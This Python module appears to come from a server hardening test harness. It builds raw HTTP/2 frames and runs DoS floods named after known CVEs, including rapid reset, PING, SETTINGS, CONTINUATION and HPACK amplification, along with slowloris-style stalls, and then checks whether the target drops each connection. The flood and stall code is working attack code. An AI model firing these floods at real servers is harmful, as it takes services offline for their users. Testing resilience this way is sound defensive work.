"""Floods on HTTP/2 by prior knowledge (off unless a function is started with http2=true): each costs its sender the connection."""
import struct
import time

from hostile_connections import all_cut, quietly
from hostile_peers import MIB, Others, close_all, report
from harness import PATIENCE

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"\x82\x86\x84\x41\x01h"  # :method GET, :scheme http, :path /, :authority h
POST = b"\x83\x86\x84\x41\x01h"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK: a literal with incremental indexing."""
    def text(s):
        n = len(s)
        if n < 127:
            return bytes((n,)) + s
        out, n = b"\x7f", n - 127
        while n >= 128:
            out, n = out + bytes((n % 128 + 128,)), n // 128
        return out + bytes((n,)) + s
    return b"\x40" + text(name) + text(value)


OPEN = PREFACE + frame(SETTINGS, 0, 0)


def streams(n, first=1):
    return range(first, first + 2 * n, 2)


# What is sent to begin with, and then again and again; the second may be a function of the round.
FLOODS = {
    "PING (CVE-2019-9512)": (OPEN, frame(PING, 0, 0, b"12345678") * 1000),
    "SETTINGS (CVE-2019-9515)": (OPEN, frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1000),
    "PRIORITY (CVE-2019-9513)": (OPEN + frame(HEADERS, END_HEADERS, 1, POST), frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 7)) * 1000),
    "WINDOW_UPDATE": (OPEN + frame(HEADERS, END_HEADERS, 1, POST), frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000),
    "empty DATA (CVE-2019-9518)": (OPEN + frame(HEADERS, END_HEADERS, 1, POST), frame(DATA, 0, 1) * 1000),
    "empty CONTINUATION (VU#421644)": (OPEN + frame(HEADERS, 0, 1, GET), frame(CONTINUATION, 0, 1) * 1000),
    "CONTINUATION of 16 KB": (OPEN + frame(HEADERS, 0, 1, GET), frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000) * 4),
    "frames of an unknown kind": (OPEN, frame(99, 0, 0) * 200),
    "rapid reset (CVE-2023-44487)": (OPEN, lambda i: b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, GET) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")
                                                              for s in streams(500, 1 + 1000 * i))),
    "streams that are opened and reset": (OPEN, lambda i: b"".join(frame(HEADERS, END_HEADERS, s, POST) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")
                                                                   for s in streams(500, 1 + 1000 * i))),
    "resets that we are made to send (CVE-2019-9514)": (OPEN, lambda i: b"".join(frame(HEADERS, END_HEADERS, s, POST) + frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0")
                                                                                 for s in streams(500, 1 + 1000 * i))),
    "heads that HPACK makes large": (OPEN + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal(b"x", b"y" * 3900)),
                                     lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * i, GET + b"\xbe" * 16000)),
}


def send_flood(target, begin, part, connections, seconds):
    """MB sent until every connection was cut, or the time is over; how many were left."""
    sent, left = 0, []
    for _ in range(connections):
        s = quietly(target.dial)
        if s is not None and quietly(lambda s=s: s.sendall(begin)) is None and s.fileno() >= 0:
            s.settimeout(5 * PATIENCE)
            left.append(s)
    everybody, end, i = list(left), time.monotonic() + seconds * PATIENCE, 0
    while left and time.monotonic() < end:
        text = part(i) if callable(part) else part
        for s in list(left):
            if is_refused(s, text):
                left.remove(s)
            else:
                sent += len(text)
        i += 1
    close_all(everybody)
    return sent / MIB, len(left)


def is_refused(s, text):
    try:
        s.sendall(text)
        return False
    except OSError:
        return True


def floods(table, target, names, n):
    for name in names:
        begin, part = FLOODS[name]
        with Others(target) as o:
            sent, left = send_flood(target, begin, part, n, 60)
        report(table, target, f"HTTP/2: {name}", o, [f"{left} connections were never cut"] if left else [], f"{sent:.0f} MB on {n} connections until all were cut")


def dial2(target, more=b""):
    s = target.dial()
    quietly(lambda: s.sendall(OPEN + more))
    return s


def stalls(table, target, n, limit_s):
    """Answers that may not be sent: the stream's window is 0, and every second a PING says that all is well."""
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    body = b"w" * 16000
    asks = b"".join(frame(HEADERS, END_HEADERS, s, POST) + frame(DATA, END_STREAM, s, body) for s in streams(90))
    with Others(target) as o:
        sockets = [dial2(target, no_window + asks) for _ in range(n)]
        left = keep_alive(sockets, limit_s + 15)
    close_all(sockets)
    report(table, target, "HTTP/2: answers kept back by a window of 0", o, [f"{left} connections were never cut"] if left else [], f"{n} connections with 90 streams each")


def unfinished(table, target, n, limit_s):
    """A hundred bodies at once on a connection, none of which ends."""
    part = b"u" * 16000
    with Others(target) as o:
        sockets = [dial2(target, b"".join(frame(HEADERS, END_HEADERS, s, POST) for s in streams(100))) for _ in range(n)]
        sent, end = 0, time.monotonic() + 8 * PATIENCE
        left = list(sockets)
        while left and time.monotonic() < end:
            for s in list(left):
                text = b"".join(frame(DATA, 0, stream, part) for stream in streams(20)) + frame(WINDOW_UPDATE, 0, 0, b"\0\1\0\0")
                s.settimeout(1)
                if is_refused(s, text):
                    left.remove(s)
                sent += len(text)
        still = keep_alive(sockets, limit_s + 15)
    close_all(sockets)
    report(table, target, "HTTP/2: a hundred unfinished bodies on a connection", o, [f"{still} connections were never cut"] if still else [],
           f"{n} connections, {sent / MIB:.0f} MB sent")


def trickle(table, target, n, limit_s):
    """A body byte and a PING now and then: always busy, never done."""
    with Others(target) as o:
        sockets = [dial2(target, frame(HEADERS, END_HEADERS, 1, POST)) for _ in range(n)]
        left = keep_alive(sockets, 2 * limit_s + 15, frame(DATA, 0, 1, b"t"))
    close_all(sockets)
    report(table, target, "HTTP/2: a body one byte at a time", o, [f"{left} connections were never cut"] if left else [], f"{n} connections, all cut at the limit")


def keep_alive(sockets, seconds, more=b""):
    """PING on each now and then; how many are still open at the end."""
    left, end = list(sockets), time.monotonic() + seconds * PATIENCE
    while left and time.monotonic() < end:
        still = all_cut(left, 0.3)
        left = [s for s in left if s.fileno() >= 0 and quietly(lambda s=s: s.send(frame(PING, 0, 0, b"goes on.") + more)) is not None] if still else []
    return len(left)


def attack(table, target, limit_s, is_whole, rng):
    floods(table, target, rng.sample(list(FLOODS), len(FLOODS) if is_whole else 4), 20 if is_whole else 4)
    held = [lambda: stalls(table, target, 50 if is_whole else 10, limit_s),
            lambda: unfinished(table, target, 20 if is_whole else 4, limit_s),
            lambda: trickle(table, target, 50 if is_whole else 10, limit_s)]
    for step in held if is_whole else rng.sample(held, 1):
        step()
